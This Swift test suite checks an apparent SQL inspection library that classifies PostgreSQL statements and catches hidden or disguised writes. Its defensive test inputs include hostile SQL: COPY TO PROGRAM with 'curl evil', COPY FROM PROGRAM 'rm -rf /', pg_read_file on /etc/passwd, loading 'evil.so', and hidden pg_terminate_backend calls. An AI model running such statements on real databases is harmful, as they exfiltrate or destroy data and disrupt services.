import SQLInspection
import Testing

/// Expected facts for one statement; nil fields are not checked.
struct Expectation: Sendable, CustomTestStringConvertible {
    var sql: String
    var primary: StatementKind
    var kinds: Set<StatementKind>? = nil
    var reads: Set<String>? = nil
    var writes: Set<String>? = nil
    var functions: Set<String>? = nil
    var objects: Set<String>? = nil
    var whereless = false
    var program = false
    var dynamic = false

    var testDescription: String { sql }
}

private func check(_ e: Expectation) throws {
    let inspection = Inspector.inspect(e.sql)
    #expect(inspection.parseError == nil, "\(e.sql): \(String(describing: inspection.parseError))")
    let facts = try #require(inspection.statements.first)
    #expect(inspection.statements.count == 1)
    #expect(facts.primary == e.primary, "\(facts.summary)")
    #expect(facts.kinds == (e.kinds ?? [e.primary]), "\(facts.summary)")
    if let reads = e.reads { #expect(Set(facts.tablesRead.map(\.description)) == reads, "\(facts.summary)") }
    if let writes = e.writes { #expect(Set(facts.tablesWritten.map(\.description)) == writes, "\(facts.summary)") }
    if let functions = e.functions { #expect(facts.functions == functions, "\(facts.summary)") }
    if let objects = e.objects { #expect(facts.objectTypes == objects, "\(facts.summary)") }
    #expect(facts.wherelessWrite == e.whereless, "\(facts.summary)")
    #expect(facts.copyProgram == e.program, "\(facts.summary)")
    #expect(facts.dynamic == e.dynamic, "\(facts.summary)")
    #expect(!facts.fingerprint.isEmpty)
}

@Suite("SQL inspection: statement kinds and tables")
struct InspectorTests {
    static let reads: [Expectation] = [
        Expectation(sql: "SELECT 1", primary: .select, reads: [], writes: []),
        Expectation(sql: "select * from users where id = 1", primary: .select, reads: ["users"], writes: []),
        Expectation(sql: "SELECT a.x FROM s1.a JOIN s2.b USING (id)", primary: .select, reads: ["s1.a", "s2.b"]),
        Expectation(sql: "select * from (select * from inner_t) sub", primary: .select, reads: ["inner_t"]),
        Expectation(
            sql: "select (select max(x) from scalar_t), exists(select 1 from ex_t)", primary: .select,
            reads: ["scalar_t", "ex_t"], functions: ["max"]),
        Expectation(sql: "with c as (select * from base_t) select * from c", primary: .select, reads: ["base_t"]),
        Expectation(
            sql: "select * from a union all select * from b except select * from c", primary: .select,
            reads: ["a", "b", "c"]),
        Expectation(sql: "SELECT * FROM \"Mixed Case\".\"Table\"", primary: .select, reads: ["Mixed Case.Table"]),
        Expectation(sql: "select * from v_report", primary: .select, reads: ["v_report"]),
        Expectation(sql: "select * from t for update", primary: .select, reads: ["t"]),
        Expectation(
            sql: "select now(), pg_catalog.lower('X')", primary: .select, reads: [],
            functions: ["now", "pg_catalog.lower"]),
        Expectation(
            sql: "select * from generate_series(1, 10) g", primary: .select, reads: [],
            functions: ["generate_series"]),
        Expectation(sql: "values (1), (2)", primary: .select, reads: []),
        Expectation(sql: "table t", primary: .select, reads: ["t"]),
    ]

    static let writes: [Expectation] = [
        Expectation(sql: "insert into t (a) values (1)", primary: .insert, reads: [], writes: ["t"]),
        Expectation(
            sql: "insert into archive select * from live", primary: .insert,
            reads: ["live"], writes: ["archive"]),
        Expectation(sql: "insert into t values (1) on conflict (a) do update set b = 2", primary: .insert, writes: ["t"]),
        Expectation(sql: "insert into t values (1) returning *", primary: .insert, writes: ["t"]),
        Expectation(
            sql: "update accounts set balance = 0 where id = 7", primary: .update, reads: [],
            writes: ["accounts"]),
        Expectation(sql: "update accounts set balance = 0", primary: .update, writes: ["accounts"], whereless: true),
        Expectation(sql: "update a set x = b.x from b where a.id = b.id", primary: .update, reads: ["b"], writes: ["a"]),
        Expectation(sql: "delete from sessions", primary: .delete, writes: ["sessions"], whereless: true),
        Expectation(
            sql: "delete from public.sessions where expires < now()", primary: .delete,
            writes: ["public.sessions"], functions: ["now"]),
        Expectation(sql: "delete from a using b", primary: .delete, reads: ["b"], writes: ["a"], whereless: true),
        Expectation(
            sql: "merge into tgt using src on tgt.id = src.id when matched then update set v = src.v",
            primary: .merge, reads: ["src"], writes: ["tgt"]),
        Expectation(sql: "truncate a, s.b", primary: .truncate, writes: ["a", "s.b"]),
        Expectation(
            sql: "select * into newtab from oldtab", primary: .select, kinds: [.select, .create],
            reads: ["oldtab"], writes: ["newtab"], objects: ["table"]),
    ]

    static let hiddenWrites: [Expectation] = [
        // The worst effect wins: a SELECT whose CTE deletes is a delete.
        Expectation(
            sql: "with gone as (delete from audit.log returning *) select count(*) from gone",
            primary: .select, kinds: [.select, .delete], reads: [], writes: ["audit.log"],
            functions: ["count"], whereless: true),
        Expectation(
            sql: "with u as (update t set x = 1 where id = 2 returning id) select * from u", primary: .select,
            kinds: [.select, .update], writes: ["t"]),
        Expectation(
            sql: "with i as (insert into t values (1) returning *) select * from i", primary: .select,
            kinds: [.select, .insert], writes: ["t"]),
        // A CTE named like a table only shadows it inside its own scope.
        Expectation(
            sql: "select * from secret, (with secret as (select 1) select * from secret) s",
            primary: .select, reads: ["secret"]),
        Expectation(
            sql: "explain analyze delete from t", primary: .explain, kinds: [.explain, .delete],
            writes: ["t"], whereless: true),
        Expectation(sql: "explain delete from t where id = 1", primary: .explain, reads: ["t"], writes: []),
        Expectation(
            sql: "prepare p as delete from t where id = $1", primary: .prepare, kinds: [.prepare, .delete],
            writes: ["t"]),
        Expectation(
            sql: "declare c cursor for select * from t", primary: .cursor,
            reads: ["t"]),
        Expectation(
            sql: "create table copy_t as select * from src", primary: .create,
            reads: ["src"], writes: ["copy_t"], objects: ["table"]),
    ]

    static let utility: [Expectation] = [
        Expectation(sql: "copy t from stdin", primary: .copyFrom, writes: ["t"]),
        Expectation(sql: "copy t to stdout", primary: .copyTo, reads: ["t"], writes: []),
        Expectation(sql: "copy (select * from t) to stdout", primary: .copyTo, reads: ["t"]),
        Expectation(sql: "copy t to program 'curl evil'", primary: .copyTo, reads: ["t"], program: true),
        Expectation(sql: "copy t from program 'rm -rf /'", primary: .copyFrom, writes: ["t"], program: true),
        Expectation(sql: "drop table a, s.b", primary: .drop, writes: ["a", "s.b"], objects: ["table"]),
        Expectation(sql: "drop index i", primary: .drop, writes: [], objects: ["index"]),
        Expectation(sql: "drop schema s cascade", primary: .drop, objects: ["schema"]),
        Expectation(sql: "drop role bob", primary: .drop, objects: ["role"]),
        Expectation(sql: "drop database app", primary: .drop, objects: ["database"]),
        Expectation(sql: "create table t (a int)", primary: .create, writes: ["t"], objects: ["table"]),
        Expectation(sql: "create index on t (a)", primary: .create, writes: ["t"], objects: ["index"]),
        Expectation(
            sql: "create view v as select * from t", primary: .create, reads: ["t"],
            writes: ["v"], objects: ["view"]),
        Expectation(sql: "alter table t add column x int", primary: .alter, writes: ["t"], objects: ["table"]),
        Expectation(sql: "alter table t rename to u", primary: .alter, writes: ["t"], objects: ["table"]),
        Expectation(
            sql: "create function f() returns int language sql as 'select 1'", primary: .create,
            objects: ["function"]),
        Expectation(sql: "create role r login", primary: .create, objects: ["role"]),
        Expectation(sql: "alter role r superuser", primary: .alter, objects: ["role"]),
        Expectation(sql: "alter system set work_mem = '1GB'", primary: .alter, objects: ["system"]),
        Expectation(sql: "create extension dblink", primary: .create, objects: ["extension"]),
        Expectation(sql: "grant select on t to bob", primary: .grant, writes: ["t"], objects: ["table"]),
        Expectation(sql: "revoke all on t from bob", primary: .revoke, writes: ["t"], objects: ["table"]),
        Expectation(sql: "grant admin to bob", primary: .grant, objects: ["role"]),
        Expectation(sql: "set role admin", primary: .setRole),
        Expectation(sql: "set session authorization postgres", primary: .setRole),
        Expectation(sql: "reset role", primary: .setRole),
        Expectation(sql: "set search_path = s", primary: .set),
        Expectation(sql: "show work_mem", primary: .show),
        Expectation(sql: "begin", primary: .transaction),
        Expectation(sql: "commit", primary: .transaction),
        Expectation(sql: "rollback to savepoint a", primary: .transaction),
        Expectation(sql: "do $$ begin delete from t; end $$", primary: .do, dynamic: true),
        Expectation(sql: "call proc(1)", primary: .call, functions: ["proc"]),
        Expectation(sql: "execute p(1)", primary: .execute, dynamic: true),
        Expectation(sql: "deallocate all", primary: .deallocate),
        Expectation(sql: "lock table t in exclusive mode", primary: .lock, reads: ["t"]),
        Expectation(sql: "vacuum t", primary: .vacuum, writes: ["t"]),
        Expectation(sql: "analyze t", primary: .analyze, writes: ["t"]),
        Expectation(sql: "listen ch", primary: .listen),
        Expectation(sql: "notify ch, 'x'", primary: .notify),
        Expectation(sql: "discard all", primary: .discard),
        Expectation(sql: "load 'evil.so'", primary: .load),
        Expectation(sql: "checkpoint", primary: .utility),
    ]

    static let functions: [Expectation] = [
        Expectation(
            sql: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", primary: .select,
            reads: ["pg_stat_activity"], functions: ["pg_terminate_backend"]),
        Expectation(sql: "select lo_unlink(42)", primary: .select, functions: ["lo_unlink"]),
        Expectation(sql: "select pg_read_file('/etc/passwd')", primary: .select, functions: ["pg_read_file"]),
        Expectation(
            sql: "select * from dblink('host=x', 'delete from t') as r(a int)", primary: .select,
            functions: ["dblink"], dynamic: true),
        Expectation(
            sql: "select query_to_xml('drop table t', true, true, '')", primary: .select,
            functions: ["query_to_xml"], dynamic: true),
        Expectation(
            sql: "select coalesce(upper(name), 'x') from t where lower(name) = 'a'", primary: .select,
            reads: ["t"], functions: ["upper", "lower"]),
    ]

    @Test("reads", arguments: reads) func readStatements(_ e: Expectation) throws { try check(e) }
    @Test("writes", arguments: writes) func writeStatements(_ e: Expectation) throws { try check(e) }
    @Test("writes hidden inside other statements", arguments: hiddenWrites) func hidden(_ e: Expectation) throws {
        try check(e)
    }
    @Test("utility, DDL and privilege statements", arguments: utility) func utilityStatements(_ e: Expectation) throws {
        try check(e)
    }
    @Test("functions called", arguments: functions) func functionCalls(_ e: Expectation) throws { try check(e) }
}

@Suite("SQL inspection: evasions the parser must see through")
struct EvasionTests {
    /// Each of these is a DELETE of `victims` without WHERE, dressed up.
    static let disguisedDeletes: [String] = [
        "/* harmless */ DELETE FROM victims",
        "-- select only\nDELETE FROM victims",
        "DELETE /* where id = 1 */ FROM victims",
        "DELETE FROM victims -- WHERE id = 1",
        "/* nested /* comment */ still comment */ DELETE FROM victims",
        "DeLeTe\n\tFROM\n  victims",
        "DELETE FROM \"victims\"",
        "DELETE FROM public.victims",
        "(WITH x AS (DELETE FROM victims RETURNING 1) SELECT * FROM x)",
        "WITH RECURSIVE r AS (SELECT 1) , d AS (DELETE FROM victims RETURNING 1) SELECT 1",
        "explain (analyze, format json) delete from victims",
    ]

    @Test("disguised WHERE-less deletes are found", arguments: disguisedDeletes)
    func disguisedDelete(_ sql: String) throws {
        let inspection = Inspector.inspect(sql)
        let facts = try #require(inspection.statements.first, "\(sql): \(String(describing: inspection.parseError))")
        #expect(facts.kinds.contains(.delete))
        #expect(facts.wherelessWrite)
        #expect(facts.tablesWritten.map(\.name) == ["victims"])
        #expect(facts.isWrite)
    }

    /// Each of these calls pg_terminate_backend somewhere a reader could miss it.
    static let hiddenCalls: [String] = [
        "select pg_terminate_backend(pid) from pg_stat_activity",
        "SELECT * FROM t WHERE id = (SELECT PG_TERMINATE_BACKEND(42))",
        "select 1 from (select pg_terminate_backend(42)) s",
        "select * from t order by pg_terminate_backend(42)",
        "select * from t, lateral (select pg_terminate_backend(t.pid)) x",
        "with k as (select pg_terminate_backend(42)) select 1",
        "values (pg_terminate_backend(42))",
        "insert into log values (pg_terminate_backend(42))",
        "select \"pg_terminate_backend\"(42)",
        "select pg_catalog.pg_terminate_backend(42)",
        "select case when true then pg_terminate_backend(42) end",
        "select coalesce(null, pg_terminate_backend(42))",
        "select array[pg_terminate_backend(42)]",
        "select (pg_terminate_backend(42))::text",
        "select exists (select 1 where pg_terminate_backend(42))",
        "select * from generate_series(1, 1) g where pg_terminate_backend(g)",
        "explain analyze select pg_terminate_backend(42)",
        "copy (select pg_terminate_backend(42)) to stdout",
        "prepare k as select pg_terminate_backend($1)",
        "declare c cursor for select pg_terminate_backend(42)",
        "select 1 /* pg_terminate_backend */ ; select pg_terminate_backend(42)",
    ]

    @Test("side-effect functions are found wherever they are called", arguments: hiddenCalls)
    func hiddenFunctionCall(_ sql: String) throws {
        let inspection = Inspector.inspect(sql)
        #expect(inspection.parseError == nil, "\(String(describing: inspection.parseError))")
        let functions = inspection.statements.flatMap(\.functions).map { $0.split(separator: ".").last.map(String.init) ?? $0 }
        #expect(functions.contains("pg_terminate_backend"), "\(inspection.statements.map(\.summary))")
    }

    @Test("strings that look like SQL are data, not statements")
    func quotedText() throws {
        for sql in [
            "select 'delete from victims'", "select $$drop table victims$$", "select $tag$; drop table victims; $tag$",
            "select E'\\'; drop table victims; --'", "select \"drop table victims\" from t",
            "select U&'\\0064rop table victims'",
        ] {
            let inspection = Inspector.inspect(sql)
            #expect(inspection.statements.count == 1, "\(sql)")
            let facts = try #require(inspection.statements.first)
            #expect(facts.kinds == [.select], "\(sql): \(facts.summary)")
            #expect(!facts.isWrite, "\(sql)")
        }
    }

    @Test("every statement of a multi-statement string is inspected, with its own text")
    func multiStatement() throws {
        let inspection = Inspector.inspect("select 1; delete from t where id = 1;\n update u set a = 1")
        #expect(inspection.isMultiStatement)
        #expect(inspection.statements.map(\.primary) == [.select, .delete, .update])
        #expect(inspection.statements.map(\.text) == ["select 1", "delete from t where id = 1", "update u set a = 1"])
        #expect(inspection.statements[2].wherelessWrite)
        let hidden = Inspector.inspect("select 1;/**/drop table t")
        #expect(hidden.statements.map(\.primary) == [.select, .drop])
    }

    @Test("text the parser refuses is unparsable, with the parser's message and position")
    func unparsable() throws {
        for sql in ["selec 1", "select 'unterminated", "delete from", "select 1; drop tabel t"] {
            let inspection = Inspector.inspect(sql)
            #expect(inspection.unparsable, "\(sql)")
            #expect(inspection.statements.isEmpty)
            #expect(inspection.parseError?.message.isEmpty == false)
        }
        #expect(Inspector.inspect("selec 1").parseError?.position == 1)
    }

    @Test("an empty query has no statements and is not an error")
    func empty() {
        for sql in ["", ";", "  ;  ; ", "-- nothing"] {
            let inspection = Inspector.inspect(sql)
            #expect(inspection.statements.isEmpty, "\(sql)")
            #expect(!inspection.unparsable, "\(sql)")
        }
    }

    @Test("the fingerprint ignores constants, case, comments and layout, and tells statements apart")
    func fingerprints() throws {
        let a = try #require(Inspector.inspect("SELECT * FROM t WHERE id = 1").statements.first).fingerprint
        let b = try #require(Inspector.inspect("select *\n  from t /* c */ where id = 42").statements.first).fingerprint
        let c = try #require(Inspector.inspect("select * from t where name = 'x'").statements.first).fingerprint
        let d = try #require(Inspector.inspect("delete from t where id = 1").statements.first).fingerprint
        #expect(a == b)
        #expect(a != c)
        #expect(a != d)
        let multi = Inspector.inspect("select 1; delete from t where id = 1")
        #expect(multi.statements[1].fingerprint == d)
    }

    @Test("non-ASCII text keeps statement boundaries right")
    func unicode() throws {
        let inspection = Inspector.inspect("select 'héllo wörld ✓'; delete from t where name = 'ü'")
        #expect(inspection.statements.map(\.text) == ["select 'héllo wörld ✓'", "delete from t where name = 'ü'"])
    }
}
